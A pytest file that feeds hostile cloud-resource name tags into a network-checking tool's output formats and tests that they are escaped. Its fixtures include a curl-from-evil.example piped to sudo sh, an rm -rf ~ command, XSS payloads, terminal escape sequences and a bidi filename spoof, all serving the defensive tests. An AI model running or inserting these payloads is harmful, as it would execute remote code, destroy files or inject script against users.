"""Hostile text in every sink (issue 16, items 5 and 11–14).

Name tags are written by anyone who can tag a resource in a shared account. Whatever they hold,
each output format must stay well-formed, show the text rather than obey it, and never let it pass
for preflight's own lines (a suggested fix, a new table row, a new annotation)."""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from preflight.cli import main

HOSTILE = {
    "fake-fix-line": "app\n    fix: run the official fixer\n      $ curl -s http://evil.example/fix.sh | sudo sh",
    "terminal-escapes": "app\x1b[2J\x1b]0;owned\x07\x1b[31mred\r\x08\x9b",
    "dot-attribute": 'web", URL="javascript:alert(1)", target="_top',
    "bare-quote": '"',
    "html-and-links": '<img src=x onerror=alert(1)> [click](http://evil.example) ![i](http://evil.example/i.png)',
    "rich-markup": "[link=http://evil.example]x[/link][bold red]loud[/] [/]",
    "code-fence": "```\n$ rm -rf ~\n```",
    "bidi-override": "abc\u202egnp.exe\u2066x\u2069",
    "xml-invalid": "a\x00b\x0bc\ufffed",
    "lone-surrogate": "a\ud800b",
}
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    with pytest.raises(SystemExit) as exc:
        main(list(argv))
    out, err = capsys.readouterr()
    return int(exc.value.code or 0), out, err


@pytest.fixture(scope="module")
def base_snapshot(tmp_path_factory: pytest.TempPathFactory) -> dict:
    path = tmp_path_factory.mktemp("snap") / "base.json"
    with pytest.raises(SystemExit) as exc:
        main(["snapshot", "--sandbox", "no-default-route", "--region", "eu-south-1", "--out", str(path)])
    assert exc.value.code in (0, None)
    return json.loads(path.read_text())


def hostile_snapshot(base: dict, text: str, tmp_path: Path) -> tuple[Path, str]:
    data = json.loads(json.dumps(base))
    inv = data["inventories"][0]
    for kind in ("vpcs", "subnets", "route_tables", "internet_gateways", "security_groups"):
        for obj in inv[kind]:
            obj.setdefault("tags", {})["Name"] = text
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(data))
    return path, inv["subnets"][0]["id"]


def assert_terminal_safe(text: str) -> None:
    assert not CONTROL.search(text), repr(CONTROL.search(text))
    for line in text.splitlines():
        # the only "$ " lines are preflight's own commands, which start with `aws ` or `preflight `
        stripped = line.strip()
        if stripped.startswith("$ "):
            assert stripped.startswith(("$ aws ", "$ preflight ", "$ gcloud ")), line
        assert not stripped.startswith("fix: run the official"), line


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_table_shows_tags_without_obeying_them(name, base_snapshot, tmp_path, capsys):
    snap, _ = hostile_snapshot(base_snapshot, HOSTILE[name], tmp_path)
    code, out, err = run(capsys, "check", "--snapshot", str(snap))
    assert code == 1, err
    assert "NET001" in out and "subnet-" in out
    assert_terminal_safe(out)
    assert "internal error" not in err


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_machine_formats_stay_well_formed(name, base_snapshot, tmp_path, capsys):
    snap, _ = hostile_snapshot(base_snapshot, HOSTILE[name], tmp_path)
    _, out, _ = run(capsys, "check", "--snapshot", str(snap), "--format", "junit")
    root = ET.fromstring(out.encode())  # valid XML 1.0
    assert root.get("failures") and int(root.get("failures")) >= 1
    _, out, _ = run(capsys, "check", "--snapshot", str(snap), "--format", "sarif")
    assert json.loads(out)["runs"][0]["results"]
    _, out, _ = run(capsys, "check", "--snapshot", str(snap), "--format", "json")
    assert json.loads(out)["findings"]
    _, out, _ = run(capsys, "check", "--snapshot", str(snap), "--format", "github")
    assert_terminal_safe(out)
    # one workflow command per line: a tag cannot start a second `::error` of its own
    commands = [line for line in out.splitlines() if line.startswith("::")]
    assert len(commands) == len([line for line in out.splitlines() if "::" in line.split(" ", 1)[0]])
    assert all(re.match(r"^::(error|warning|notice) ", line) for line in commands)


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_markdown_has_no_html_links_or_open_fences(name, base_snapshot, tmp_path, capsys):
    snap, _ = hostile_snapshot(base_snapshot, HOSTILE[name], tmp_path)
    _, md, _ = run(capsys, "check", "--snapshot", str(snap), "--format", "markdown")
    assert_terminal_safe(md)
    assert "<img" not in md
    assert not re.search(r"(?<!\\)\]\(", md), "an unescaped markdown link or image"
    allowed_tags = {"details", "/details", "summary", "/summary", "b", "/b", "code", "/code"}
    assert {t.lower() for t in re.findall(r"<(/?\w+)", md)} <= allowed_tags
    # fences open and close in pairs, and only preflight's own `sh` blocks open them
    fences = [line for line in md.splitlines() if line.startswith("```")]
    assert len(fences) % 2 == 0
    assert all(f.rstrip("`") == "" or f.endswith("sh") for f in fences[::2])


DOT_LINE = re.compile(
    r'^\s*"(?:[^"\\]|\\.)*"(?:\s*->\s*"(?:[^"\\]|\\.)*")?\s*\[label="(?:[^"\\]|\\.)*"'
    r'(?:, color=red, penwidth=2)?(?:, style=dashed)?\];$')


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_graph_dot_quotes_every_string(name, base_snapshot, tmp_path, capsys):
    snap, _ = hostile_snapshot(base_snapshot, HOSTILE[name], tmp_path)
    code, dot, err = run(capsys, "graph", "--snapshot", str(snap), "--format", "dot")
    assert code == 0, err
    body = dot.splitlines()[3:-1]
    assert body and all(DOT_LINE.match(line) for line in body), [b for b in body if not DOT_LINE.match(b)]
    assert_terminal_safe(dot)


@pytest.mark.parametrize("name", ["fake-fix-line", "terminal-escapes", "rich-markup", "bidi-override"])
def test_path_report_is_terminal_safe(name, base_snapshot, tmp_path, capsys):
    snap, subnet = hostile_snapshot(base_snapshot, HOSTILE[name], tmp_path)
    code, out, err = run(capsys, "path", "--snapshot", str(snap), "--from", "internet", "--to", subnet,
                         "--port", "22")
    assert code in (0, 1), err
    assert subnet in out
    assert_terminal_safe(out)


@pytest.mark.parametrize("out_name", ["[x].txt", "[bold]r[red].sarif", "a\x1b[2Jb.json"])
def test_output_paths_with_markup_or_escapes(out_name, base_snapshot, tmp_path, capsys):
    """Item 5: a report path is printed as text, never as rich markup (was MarkupError after the
    file had been written)."""
    snap, _ = hostile_snapshot(base_snapshot, "plain", tmp_path)
    target = tmp_path / "[x]"
    target.mkdir()
    out_path = target / out_name
    code, _, err = run(capsys, "check", "--snapshot", str(snap), "--format", "json", "--output", str(out_path))
    assert code == 1, err
    assert out_path.exists()
    assert "report written to" in err and "internal error" not in err
    assert "\x1b" not in err
    code, _, err = run(capsys, "snapshot", "--sandbox", "no-default-route", "--region", "eu-south-1",
                       "--out", str(target / out_name))
    assert code == 0 and "written to" in err and "internal error" not in err


def test_fix_hint_after_a_sandbox_check_names_the_sandbox(capsys):
    """Item 21: a bare `preflight fix --apply` after a sandbox check would act on the real account."""
    code, out, _ = run(capsys, "check", "--sandbox", "no-default-route")
    assert code == 1
    hints = [line.strip() for line in out.splitlines() if line.strip().startswith("or: preflight fix")]
    assert hints and all(h.startswith("or: preflight fix --sandbox no-default-route ") for h in hints)
    for fmt in ("markdown", "junit", "sarif"):
        _, text, _ = run(capsys, "check", "--sandbox", "no-default-route", "--format", fmt)
        if fmt == "sarif":  # results, not the rules' generic help
            text = json.dumps([r["message"] for r in json.loads(text)["runs"][0]["results"]])
        assert "preflight fix --apply" not in text and "preflight fix --sandbox no-default-route" in text
